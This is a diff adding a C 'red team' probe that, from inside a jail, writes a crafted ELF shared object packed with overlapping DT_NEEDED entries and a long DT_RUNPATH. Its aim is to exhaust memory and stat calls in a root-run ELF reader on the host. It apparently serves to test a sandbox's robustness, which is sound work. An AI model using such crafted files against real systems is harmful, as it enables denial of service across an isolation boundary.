@@ -1,0 +1,95 @@
+/* Red team 6's program (static): writes, from inside a jail, an ELF file for root's reader on the host.
+ *
+ *   redteam6_probe elf PATH NEEDED LENGTH DIRS   writes PATH: an x86-64 shared object whose one PT_LOAD
+ *       covers the file and whose PT_DYNAMIC holds NEEDED DT_NEEDED entries, each naming a distinct suffix
+ *       of one string of LENGTH 'A's (the last shares its end with all the others), and, when DIRS > 0,
+ *       one DT_RUNPATH of DIRS directories ("/x0:/x1:..."); says "elf: wrote N bytes" or
+ *       "elf: refused (errno text)", then waits forever (the jail keeps running).
+ *   A reader that takes every entry keeps NEEDED strings of up to LENGTH bytes, and a resolver looks each
+ *   soname up in every directory: NEEDED x DIRS stat calls.
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+static unsigned char *put(unsigned char *p, uint64_t v, int size)
+{
+    for (int i = 0; i < size; i++)
+        *p++ = (unsigned char)(v >> (8 * i));  /* little-endian */
+    return p;
+}
+
+static int write_elf(const char *path, long needed, long length, long dirs)
+{
+    const long ehsize = 64, phsize = 56, dyn_off = ehsize + 2 * phsize;
+    long n_dyn = needed + (dirs > 0) + 2;
+    long str_off = dyn_off + 16 * n_dyn;
+    long dirs_len = 0;
+    for (long i = 0; i < dirs; i++)
+        dirs_len += snprintf(NULL, 0, "/x%ld", i) + 1;
+    long runpath_at = 1 + length + 1;
+    long size = str_off + runpath_at + dirs_len + (dirs ? 0 : 0);
+    unsigned char *buf = calloc(1, (size_t)size + 1), *p = buf;
+    if (!buf)
+        return -1;
+    memcpy(p, "\177ELF\2\1\1", 7);
+    p = buf + 16;
+    p = put(p, 3, 2); p = put(p, 62, 2); p = put(p, 1, 4); p = put(p, 0, 8);   /* ET_DYN, x86-64 */
+    p = put(p, ehsize, 8); p = put(p, 0, 8); p = put(p, 0, 4);                 /* phoff, shoff, flags */
+    p = put(p, ehsize, 2); p = put(p, phsize, 2); p = put(p, 2, 2);            /* ehsize, phentsize, phnum */
+    p = put(p, 64, 2); p = put(p, 0, 2); p = put(p, 0, 2);
+    /* PT_LOAD over the whole file, PT_DYNAMIC */
+    p = put(p, 1, 4); p = put(p, 5, 4); p = put(p, 0, 8); p = put(p, 0, 8); p = put(p, 0, 8);
+    p = put(p, (uint64_t)size, 8); p = put(p, (uint64_t)size, 8); p = put(p, 0x1000, 8);
+    p = put(p, 2, 4); p = put(p, 6, 4); p = put(p, (uint64_t)dyn_off, 8); p = put(p, (uint64_t)dyn_off, 8);
+    p = put(p, (uint64_t)dyn_off, 8); p = put(p, (uint64_t)(16 * n_dyn), 8); p = put(p, (uint64_t)(16 * n_dyn), 8);
+    p = put(p, 8, 8);
+    for (long i = 0; i < needed; i++) {
+        p = put(p, 1, 8);                                   /* DT_NEEDED */
+        p = put(p, (uint64_t)(1 + i % (length > 0 ? length : 1)), 8);
+    }
+    if (dirs > 0) {
+        p = put(p, 29, 8); p = put(p, (uint64_t)runpath_at, 8);   /* DT_RUNPATH */
+    }
+    p = put(p, 5, 8); p = put(p, (uint64_t)str_off, 8);           /* DT_STRTAB */
+    p = put(p, 0, 8); p = put(p, 0, 8);                           /* DT_NULL */
+    p = buf + str_off + 1;
+    memset(p, 'A', (size_t)length);
+    p += length + 1;
+    for (long i = 0; i < dirs; i++)
+        p += sprintf((char *)p, "/x%ld%s", i, i + 1 < dirs ? ":" : "") + (i + 1 < dirs ? 0 : 1);
+    int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0644);
+    if (fd < 0)
+        return -1;
+    long done = 0;
+    while (done < size) {
+        ssize_t n = write(fd, buf + done, (size_t)(size - done));
+        if (n <= 0)
+            return -1;
+        done += n;
+    }
+    close(fd);
+    free(buf);
+    return (int)done;
+}
+
+int main(int argc, char **argv)
+{
+    if (argc == 6 && strcmp(argv[1], "elf") == 0) {
+        int n = write_elf(argv[2], atol(argv[3]), atol(argv[4]), atol(argv[5]));
+        if (n < 0)
+            printf("elf: refused (%s)\n", strerror(errno));
+        else
+            printf("elf: wrote %d bytes\n", n);
+        fflush(stdout);
+        for (;;)
+            pause();
+    }
+    fprintf(stderr, "usage: redteam6_probe elf PATH NEEDED LENGTH DIRS\n");
+    return 2;
+}
